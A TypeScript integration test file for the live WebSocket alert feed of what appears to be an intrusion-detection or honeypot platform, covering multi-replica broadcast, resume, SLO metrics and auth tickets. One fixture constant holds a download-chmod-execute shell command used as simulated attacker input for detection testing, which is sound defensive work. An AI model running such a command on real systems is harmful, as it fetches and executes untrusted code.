import type { SloDetail } from '@eviltwin/contract'
import pg from 'pg'
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
import { connectFeed, openFeed, ticketFor } from '../../testing/test-feed.js'
import { ADMIN, startTestPlatform, type TestPlatform } from '../../testing/test-platform.js'
import { until } from '../../testing/until.js'

const HIGH = 'wget http://192.0.2.1/x; chmod 777 x; ./x'

/** Open connections of the server but those kept alive for the next request. */
async function connectionsOf({ platform }: TestPlatform): Promise<number> {
  platform.app.server.closeIdleConnections()
  return new Promise((resolve) => platform.app.server.getConnections((_error, count) => resolve(count)))
}

describe.each(inject('postgresServers'))('the live feed on $version', (server) => {
  let api: TestPlatform
  let replica: TestPlatform
  let token: string
  let next = 0
  beforeAll(async () => {
    api = await startTestPlatform(server)
    replica = await startTestPlatform(server, { beside: api })
    token = await api.login()
  })
  afterAll(async () => {
    await replica.close()
    await api.close()
  })

  /** Sends events of so many new sources, each worth an alert; gives the sources. */
  async function attack(count = 1): Promise<string[]> {
    const sources = Array.from({ length: count }, () => {
      next += 1
      return `203.0.113.${next}`
    })
    const events = sources.map((source_ip) => ({
      source_ip,
      session: 's',
      occurred_at: new Date().toISOString(),
      command: HIGH,
    }))
    await api.send(JSON.stringify(events))
    return sources
  }

  test('every client of every replica gets an alert, and acknowledging it is measured', async () => {
    const feeds = [await openFeed(api, token), await openFeed(api, token), await openFeed(replica, token)]
    const [source] = await attack()
    for (const feed of feeds) {
      const [alert] = await feed.until(1)
      expect(alert).toMatchObject({ source_ip: source, threat_level: 'high', state: 'open' })
      feed.acknowledge(alert?.id ?? '')
    }
    await until(async () =>
      /eviltwin_alert_delivery_duration_seconds_count\{mode="live"\} 2/.test(
        await (await api.call('/metrics')).text(),
      ),
    )
    expect(feeds[0]?.messages[0]).toMatchObject({ event_type: 'CONNECTED', payload: { resumed: false } })
    const line = api.logged.find(
      (each) => each['message'] === 'WebSocket broadcast' && each['source_ip'] === source,
    )
    expect(line).toMatchObject({ level: 'INFO', logger: 'backend.routers.alerts', clients: 2 })
    for (const feed of feeds) await feed.close()
  })

  test('a client that asks for it learns which sessions changed, on every replica', async () => {
    const asks = async ({ url, call }: TestPlatform) =>
      connectFeed(url, await ticketFor(call, token), undefined, undefined, { sessions: 'true' })
    const feeds = [await asks(api), await asks(replica)]
    const other = await openFeed(api, token)
    const answer = await api.send(
      JSON.stringify({
        source_ip: '198.51.100.9',
        session: 'changed',
        command: 'id',
        occurred_at: new Date(),
      }),
    )
    const { session_id } = (await answer.json()) as { session_id: string }
    const named = ({ messages }: typeof other) =>
      messages.flatMap((each) => (each.event_type === 'SESSIONS_CHANGED' ? (each.payload.ids ?? []) : []))
    for (const feed of feeds) await until(() => named(feed).includes(session_id))
    // An alert is behind the change of its session.
    await attack()
    await other.until(1)
    expect(other.messages.map(({ event_type }) => event_type)).not.toContain('SESSIONS_CHANGED')
    for (const feed of [...feeds, other]) await feed.close()
  })

  test('a client that was away resumes after its last alert, with no gap and no duplicate, on any replica', async () => {
    const before = await openFeed(api, token)
    await attack()
    const [last] = await before.until(1)
    await before.close()
    const missed = await attack(5)
    const after = await openFeed(replica, token, last?.id)
    expect((await after.until(5)).map(({ source_ip }) => source_ip).sort()).toEqual([...missed].sort())
    const [live] = await attack()
    const alerts = await after.until(6)
    expect(alerts).toHaveLength(6)
    expect(alerts[5]?.source_ip).toBe(live)
    expect(after.messages[0]).toMatchObject({ payload: { resumed: true } })
    await after.close()
  })

  test('a broadcast is logged by the replicas that sent the alert to somebody, with the ids of its event', async () => {
    const feed = await openFeed(replica, token)
    next += 1
    const source_ip = `203.0.113.${next}`
    const events = [{ source_ip, session: 's', occurred_at: new Date().toISOString(), command: HIGH }]
    await api.send(JSON.stringify(events), { 'x-request-id': 'brought-it' })
    await feed.until(1)
    // The next alert is broadcast after it, so by then both replicas have handled the first.
    const other = await openFeed(api, token)
    await attack()
    await Promise.all([feed.until(2), other.until(1)])
    const broadcasts = (of: TestPlatform) =>
      of.logged.filter((line) => line['message'] === 'WebSocket broadcast' && line['source_ip'] === source_ip)
    expect(broadcasts(api)).toEqual([])
    expect(broadcasts(replica)).toMatchObject([
      { clients: 1, request_id: 'brought-it', trace_id: expect.any(String) },
    ])
    await Promise.all([feed.close(), other.close()])
  })

  test('a client that acknowledges once and then stops is late with each further alert', async () => {
    const own = await startTestPlatform(server)
    const as = await own.login()
    const feed = await openFeed(own, as)
    const silent = await openFeed(own, as)
    const raise = (n: number) =>
      own.send(
        JSON.stringify({
          source_ip: `198.51.100.${n}`,
          session: 's',
          occurred_at: new Date().toISOString(),
          command: HIGH,
        }),
      )
    await raise(1)
    const [alert] = await feed.until(1)
    feed.acknowledge(alert?.id ?? '')
    for (let n = 2; n <= 6; n += 1) await raise(n)
    await feed.until(6)
    const slo = await until(async () => {
      const found = (await (await own.call('/slos/alert-delivery-delay', { as })).json()) as SloDetail
      return found.measured.total === 6 && found
    })
    expect(slo.measured.good).toBe(1)
    await Promise.all([feed.close(), silent.close()])
    const metrics = await until(async () => {
      const text = await (await own.call('/metrics')).text()
      return /unmeasured_total\{reason="never_acknowledged"\} 6/.test(text) && text
    })
    expect(metrics).toMatch(/eviltwin_alert_delivery_duration_seconds_count\{mode="live"\} 6/)
    expect(metrics).toMatch(/eviltwin_alert_delivery_duration_seconds_bucket\{mode="live",le="2"\} 1/)
    const { population } = (await (await own.call('/slos/alert-delivery-delay', { as })).json()) as SloDetail
    expect(population.apart).toEqual([{ population: 'unmeasured', requests: 6 }])
    await own.close()
  }, 30_000)

  test('resuming from an alert that is not stored says so', async () => {
    const feed = await openFeed(api, token, '00000000-0000-4000-8000-000000000000')
    await until(() => feed.messages[0])
    expect(feed.messages[0]).toMatchObject({ event_type: 'CONNECTED', payload: { resumed: false } })
    await feed.close()
  })

  test('a change by one analyst reaches the others', async () => {
    const feed = await openFeed(replica, token)
    await attack()
    const [alert] = await feed.until(1)
    await api.call(`/alerts/${alert?.id}`, {
      method: 'PATCH',
      as: token,
      body: JSON.stringify({ state: 'acknowledged' }),
    })
    const update = await until(() => feed.messages.find(({ event_type }) => event_type === 'ALERT_UPDATED'))
    expect(update).toMatchObject({ payload: { id: alert?.id, state: 'acknowledged' } })
    await feed.close()
  })

  test('after the connection for notifications broke, clients learn that they may have missed changes', async () => {
    const feed = await openFeed(replica, token)
    await attack()
    const [alert] = await feed.until(1)
    const client = new pg.Client({ connectionString: api.databaseUrl })
    await client.connect()
    await client.query(
      `SELECT pg_terminate_backend(pid) FROM pg_stat_activity
       WHERE datname = current_database() AND application_name = 'eviltwin listen'`,
    )
    await client.query(`UPDATE alerts SET state = 'acknowledged' WHERE id = $1`, [alert?.id])
    await client.end()
    await until(() => feed.messages.find(({ event_type }) => event_type === 'UPDATES_MISSED'))
    const stored = await replica.call(`/alerts/${alert?.id}`, { as: token })
    expect(await stored.json()).toMatchObject({ state: 'acknowledged' })
    await feed.close()
  })

  test('a ticket works once, and nothing else works', async () => {
    const ticket = await ticketFor(api.call, token)
    const feed = await connectFeed(api.url, ticket)
    for (const refused of [ticket, 'nonsense', token]) {
      await expect(connectFeed(api.url, refused)).rejects.toThrow('401')
    }
    await expect(connectFeed(`${api.url}/no-such-path`, 'x')).rejects.toThrow('404')
    // A refused upgrade leaves nothing open: only the feed's own connection is left.
    await until(async () => (await connectionsOf(api)) === 1)
    await feed.close()
  })

  test('a ticket is good for half a minute', async () => {
    let now = Date.now()
    // The clock of this server is compared with the database's only before it jumps.
    const environment = { OPERATIONS_INTERVAL_SECONDS: '10' }
    const later = await startTestPlatform(server, { now: () => now, environment })
    const ticket = await ticketFor(later.call, await later.login())
    now += 31_000
    await expect(connectFeed(later.url, ticket)).rejects.toThrow('401')
    await later.close()
  })

  test('logging out ends the feeds of that login on every replica', async () => {
    const login = await api.login()
    const feed = await openFeed(replica, login)
    await api.call('/auth/logout', { method: 'POST', as: login })
    expect(await feed.closed).toBe(4401)
  })

  test('a refresh token that is used twice ends the feeds of its login', async () => {
    const login = await api.call('/auth/login', { method: 'POST', body: JSON.stringify(ADMIN) })
    const { access_token, refresh_token } = (await login.json()) as Record<string, string>
    const feed = await openFeed(replica, access_token ?? '')
    for (let use = 0; use < 2; use += 1) {
      await api.call('/auth/refresh', { method: 'POST', body: JSON.stringify({ refresh_token }) })
    }
    expect(await feed.closed).toBe(4401)
  })

  test('a server that stops tells its clients to come back', async () => {
    const stopping = await startTestPlatform(server, { beside: api })
    const feed = await openFeed(stopping, token)
    await stopping.close()
    expect(await feed.closed).toBe(1012)
  })

  test('what is no acknowledgement ends the connection', async () => {
    const feed = await openFeed(api, token)
    feed.acknowledge('not a uuid')
    expect(await feed.closed).toBe(4400)
  })
})
